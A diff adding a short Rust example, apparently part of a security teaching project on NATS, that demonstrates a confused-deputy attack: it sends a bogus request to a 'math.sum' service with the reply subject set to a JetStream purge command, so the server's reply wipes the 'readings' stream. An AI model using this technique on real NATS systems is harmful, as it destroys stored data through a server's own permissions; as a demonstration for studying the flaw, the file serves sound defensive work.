@@ -1,0 +1,23 @@
+//! An attack: a server that answers wherever it is told to does it with its own rights. This one
+//! asks for no sum, and names a subject of the JetStream API as the reply subject.
+//!
+//! ```sh
+//! # with math-client's line
+//! cargo run -p secure --example attack-deputy -- '$JS.API.STREAM.PURGE.readings'
+//! ```
+
+use std::io::{Write, stdout};
+
+mod user;
+
+#[tokio::main]
+async fn main() -> Result<(), async_nats::Error> {
+    let reply_to = std::env::args().nth(1).unwrap_or("$JS.API.STREAM.PURGE.readings".into());
+    let nats = user::connect().await?;
+    // The answer is an error without a body.
+    nats.publish_with_reply("math.sum", reply_to.clone(), "no request".into()).await?;
+    nats.flush().await?;
+    nats.drain().await?;
+    writeln!(stdout(), "asked for a sum, the reply goes to {reply_to}")?;
+    Ok(())
+}
